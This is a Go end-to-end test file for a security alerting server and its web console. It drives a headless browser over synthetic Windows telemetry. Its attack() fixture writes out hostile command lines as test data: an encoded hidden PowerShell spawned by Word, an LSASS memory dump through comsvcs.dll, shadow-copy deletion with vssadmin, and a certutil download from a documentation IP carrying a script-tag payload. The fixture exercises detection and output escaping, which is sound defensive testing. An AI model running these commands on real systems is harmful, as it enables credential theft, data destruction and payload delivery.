@@ -1,0 +1,311 @@
+// Package test drives picket from outside: the program as a user runs it, in a
+// real browser and with clients that others wrote. It is a module of its own,
+// so that what it needs is no dependency of picket.
+package test
+
+import (
+	"context"
+	"encoding/json"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/cdp"
+	"github.com/chromedp/cdproto/emulation"
+	"github.com/chromedp/cdproto/runtime"
+	"github.com/chromedp/chromedp"
+	"github.com/chromedp/chromedp/kb"
+)
+
+var screenshots = flag.String("screenshots", "", "write pictures of the pages to this `DIR`")
+
+// A server is a running picket serve.
+type server struct {
+	url, data, password string
+	bin                 string
+}
+
+// start builds picket and runs it on a free port with the builtin rules.
+func start(t *testing.T, args ...string) *server {
+	t.Helper()
+	dir := t.TempDir()
+	s := &server{data: filepath.Join(dir, "data"), bin: filepath.Join(dir, "picket")}
+	if out, err := exec.Command("go", "build", "-C", "..", "-o", s.bin, "./cmd/picket").CombinedOutput(); err != nil {
+		t.Fatalf("build: %v\n%s", err, out)
+	}
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	addr := l.Addr().String()
+	l.Close()
+	s.url = "http://" + addr
+	cmd := exec.Command(s.bin, append([]string{"serve", "--data", s.data, "--listen", addr, "--log-level", "warn"}, args...)...)
+	stdout, err := cmd.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd.Stderr = os.Stderr
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		cmd.Process.Signal(os.Interrupt)
+		if err := cmd.Wait(); err != nil {
+			t.Errorf("picket serve: %v", err)
+		}
+	})
+	// It says where the console is once it listens.
+	var said strings.Builder
+	buf := make([]byte, 4096)
+	for !strings.Contains(said.String(), "console:") {
+		n, err := stdout.Read(buf)
+		if err != nil {
+			t.Fatalf("picket serve ended; it said %q", said.String())
+		}
+		said.Write(buf[:n])
+	}
+	go io.Copy(io.Discard, stdout)
+	m := regexp.MustCompile(`password (\S+)`).FindStringSubmatch(said.String())
+	if m == nil {
+		t.Fatalf("no password in %q", said.String())
+	}
+	s.password = m[1]
+	return s
+}
+
+// picket runs another command on the server's data.
+func (s *server) picket(t *testing.T, args ...string) string {
+	t.Helper()
+	out, err := exec.Command(s.bin, append(args, "--data", s.data)...).Output()
+	if err != nil {
+		t.Fatalf("picket %v: %v", args, err)
+	}
+	return strings.TrimSpace(string(out))
+}
+
+// post posts events, and waits until the server has worked them off.
+func (s *server) post(t *testing.T, events ...map[string]any) {
+	t.Helper()
+	token := s.picket(t, "token", "create", "--collector", "test")
+	body, err := json.Marshal(events)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req, _ := http.NewRequest("POST", s.url+"/api/v1/telemetry/", strings.NewReader(string(body)))
+	req.Header.Set("Authorization", "Token "+token)
+	req.Header.Set("Content-Type", "application/json")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	answer, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusCreated {
+		t.Fatalf("%d: %s", resp.StatusCode, answer)
+	}
+	for deadline := time.Now().Add(30 * time.Second); ; {
+		resp, err := http.Get(s.url + "/metrics")
+		if err != nil {
+			t.Fatal(err)
+		}
+		text, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if strings.Contains(string(text), "\npicket_events_waiting 0\n") {
+			return
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("events still wait after 30 s")
+		}
+	}
+}
+
+// attack is a small story on a few hosts.
+func attack() []map[string]any {
+	var events []map[string]any
+	at := time.Now().Add(-50 * time.Minute)
+	n := 0
+	add := func(host, image, parent, command string) {
+		n++
+		at = at.Add(time.Duration(20+n%40) * time.Second)
+		events = append(events, map[string]any{
+			"agent_id": host, "event_id": fmt.Sprintf("story-%d", n), "event_type": "process", "timestamp": at.Unix(), "severity": "info", "version": "1.0",
+			"host": map[string]any{"hostname": host, "os": "Windows", "os_version": "11"},
+			"process": map[string]any{"name": image, "pid": 4000 + n, "command_line": command, "user": `CORP\ann`, "parent_image": parent, "action": "created"},
+		})
+	}
+	const s32 = `C:\Windows\System32\`
+	for i := range 60 {
+		add(fmt.Sprintf("WS-%03d", i%7), s32+"svchost.exe", s32+"services.exe", fmt.Sprintf("svchost.exe -k netsvcs -p -s Svc%d", i))
+	}
+	add("WS-003", s32+"cmd.exe", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `cmd /c powershell -w hidden -e aQBlAHgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABpAGUAbgB0ACkA`)
+	add("WS-003", s32+`WindowsPowerShell\v1.0\powershell.exe`, s32+"cmd.exe", `powershell -w hidden -e aQBlAHgAIAAoAG4AZQB3AC0AbwBiAGoAZQBjAHQAIABuAGUAdAAuAHcAZQBiAGMAbABpAGUAbgB0ACkA`)
+	add("WS-003", s32+"whoami.exe", s32+"cmd.exe", "whoami /all")
+	add("WS-003", s32+"nltest.exe", s32+"cmd.exe", "nltest /domain_trusts")
+	add("WS-003", s32+"rundll32.exe", s32+"cmd.exe", `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\t\l.dmp full`)
+	add("SRV-01", s32+"cmd.exe", `C:\Windows\PSEXESVC.exe`, "cmd.exe /c hostname")
+	add("SRV-01", s32+"vssadmin.exe", s32+"cmd.exe", "vssadmin delete shadows /all /quiet")
+	add("WS-005", s32+"certutil.exe", s32+"cmd.exe", `certutil -urlcache -split -f http://203.0.113.5/<script>alert(1)</script>.exe a.exe`)
+	return events
+}
+
+// browser starts a headless Chromium, or skips the test where there is none.
+func browser(t *testing.T) context.Context {
+	t.Helper()
+	path, err := exec.LookPath("chromium")
+	if err != nil {
+		t.Skip("SKIPPED for want of a browser: chromium is not installed")
+	}
+	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.DisableGPU,
+		chromedp.Flag("disable-quic", true), chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
+		chromedp.WindowSize(1280, 860), chromedp.UserDataDir(t.TempDir()))
+	ctx, cancel := chromedp.NewExecAllocator(context.Background(), opts...)
+	t.Cleanup(cancel)
+	ctx, cancel = chromedp.NewContext(ctx)
+	t.Cleanup(cancel)
+	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil { // starts it
+		t.Fatalf("start the browser: %v", err)
+	}
+	ctx, cancel = context.WithTimeout(ctx, 2*time.Minute)
+	t.Cleanup(cancel)
+	return ctx
+}
+
+func TestConsole(t *testing.T) {
+	ctx := browser(t)
+	s := start(t)
+	s.post(t, attack()...)
+	s.post(t, map[string]any{"event_type": "process", "process": map[string]any{"name": "x"}}, map[string]any{"event_type": "other", "agent_id": "WS-000", "event_id": "fine"})
+
+	// Whatever a page's script complains of fails the test.
+	if err := chromedp.Listen(ctx, func(ev any) {
+		if e, ok := ev.(*runtime.EventExceptionThrown); ok {
+			t.Errorf("in the page: %v", e.ExceptionDetails)
+		}
+	}); err != nil {
+		t.Fatal(err)
+	}
+	run := func(what string, actions ...chromedp.Action[chromedp.Void]) {
+		t.Helper()
+		if err := chromedp.Do(ctx, actions...); err != nil {
+			t.Fatalf("%s: %v", what, err)
+		}
+	}
+	shot := func(name string) {
+		if *screenshots == "" {
+			return
+		}
+		png, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
+		if err != nil {
+			t.Fatalf("take a picture of %s: %v", name, err)
+		}
+		if err := os.WriteFile(filepath.Join(*screenshots, name+".png"), png, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	text := func() string {
+		body, err := chromedp.Run(ctx, chromedp.Text("body"))
+		if err != nil {
+			t.Fatalf("read the page: %v", err)
+		}
+		return body
+	}
+	wants := func(page string, wanted ...string) {
+		t.Helper()
+		body := text()
+		for _, w := range wanted {
+			if !strings.Contains(body, w) {
+				t.Errorf("%s: no %q in\n%s", page, w, body)
+			}
+		}
+	}
+
+	// Nobody gets in without the password, and a wrong one says so.
+	run("open", chromedp.Navigate(s.url+"/console/alerts"), chromedp.WaitVisible("form.signin"))
+	run("sign in wrongly", chromedp.SendKeys("input[name=name]", "admin"), chromedp.SendKeys("input[name=password]", "wrong"+kb.Enter), chromedp.WaitVisible(".problem"))
+	wants("sign-in", "Wrong name or password")
+	shot("signin")
+	run("sign in", chromedp.Navigate(s.url+"/console/sign-in"), chromedp.SendKeys("input[name=name]", "admin"),
+		chromedp.SendKeys("input[name=password]", s.password+kb.Enter), chromedp.WaitVisible(".tiles"))
+	wants("overview", "open alerts", "Shadow Copies or Backups Deleted", "8 / 8")
+	shot("overview")
+
+	// Alerts: the list, the filter, one alert with its evidence, and triage.
+	run("alerts by keys", chromedp.KeyEvent("g"), chromedp.KeyEvent("a"), chromedp.WaitVisible("form.filters select"))
+	wants("alerts", "Credentials Dumped From LSASS by Command Line", "SRV-01", "WS-003")
+	shot("alerts")
+	run("filter", chromedp.SetValue("select[name=level]", "critical"), chromedp.Click("form.filters button"), chromedp.WaitVisible("form.filters a"))
+	if body := text(); strings.Contains(body, "PsExec Service") {
+		t.Error("the filter by level does not")
+	}
+	run("open one", chromedp.KeyEvent("j"), chromedp.KeyEvent(kb.Enter), chromedp.WaitVisible("dl.facts"))
+	wants("alert", "CommandLine", "Status", "Triage")
+	run("its event", chromedp.Click("details summary"), chromedp.WaitVisible("details pre"))
+	shot("alert")
+	run("triage", chromedp.SetValue("select[name=status]", "resolved"), chromedp.SendKeys("textarea", "Cleaned."), chromedp.Click("aside form button"), chromedp.WaitVisible(".note"))
+	wants("triaged alert", "resolved", "Cleaned.")
+
+	// Text of events is shown, never run: certutil's line has a script in it.
+	run("search", chromedp.Navigate(s.url+"/console/events"), chromedp.KeyEvent("/"), chromedp.SendKeys("input[name=q]", `Image=*\certutil.exe`+kb.Enter), chromedp.WaitVisible("td.line"))
+	wants("events", "<script>alert(1)</script>")
+	run("event", chromedp.Click("a.row"), chromedp.WaitVisible("pre"))
+	wants("event", "CommandLine", "Certutil")
+	shot("event")
+	run("a wrong query", chromedp.Navigate(s.url+"/console/events?q=%28a"), chromedp.WaitVisible(".problem"))
+
+	run("hosts", chromedp.Navigate(s.url+"/console/hosts"), chromedp.WaitVisible(".dot.on"))
+	wants("hosts", "WS-006", "SRV-01", "windows")
+	run("rules", chromedp.Navigate(s.url+"/console/rules?q=t1490"), chromedp.WaitVisible("table.list"), chromedp.Click("table form button"), chromedp.WaitVisible("tr.off, form.filters"))
+	run("rules again", chromedp.Navigate(s.url+"/console/rules?q=t1490"), chromedp.WaitVisible("tr.off"))
+	shot("rules")
+
+	// Dead letters: the one rejected event is there, and can be deleted.
+	run("queue", chromedp.Navigate(s.url+"/console/queue"), chromedp.WaitVisible("table.flow"))
+	wants("queue", "rejected", "This field is required.")
+	shot("queue")
+	run("delete a letter", chromedp.Click("td form button.danger"), chromedp.WaitNotPresent("td form button.danger"))
+	wants("queue", "None. What can't be processed")
+
+	// Dark, when the reader's system is.
+	run("dark", chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
+		_, err := cdp.Call(ctx, t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
+			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: "dark"}},
+		})
+		return err
+	}),
+		chromedp.Navigate(s.url+"/console/"), chromedp.WaitVisible(".tiles"))
+	background, err := chromedp.Run(ctx, chromedp.Evaluate[string](`getComputedStyle(document.documentElement).backgroundColor`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if background != "rgb(18, 22, 26)" {
+		t.Errorf("dark background is %s", background)
+	}
+	shot("dark")
+	run("sign out", chromedp.Click("form.who button"), chromedp.WaitVisible("form.signin"))
+}
+
+// A page that is looked at shows a new alert by itself, and keeps what is
+// open.
+func TestLive(t *testing.T) {
+	ctx := browser(t)
+	s := start(t)
+	if err := chromedp.Do(ctx, chromedp.Navigate(s.url+"/console/sign-in"), chromedp.SendKeys("input[name=name]", "admin"),
+		chromedp.SendKeys("input[name=password]", s.password+kb.Enter), chromedp.WaitVisible(".tiles"),
+		chromedp.Navigate(s.url+"/console/alerts"), chromedp.WaitVisible(".empty")); err != nil {
+		t.Fatal(err)
+	}
+	s.post(t, attack()...)
+	if err := chromedp.Do(ctx, chromedp.WaitVisible("table.list a.row")); err != nil {
+		t.Fatalf("the new alert does not show: %v", err)
+	}
+}
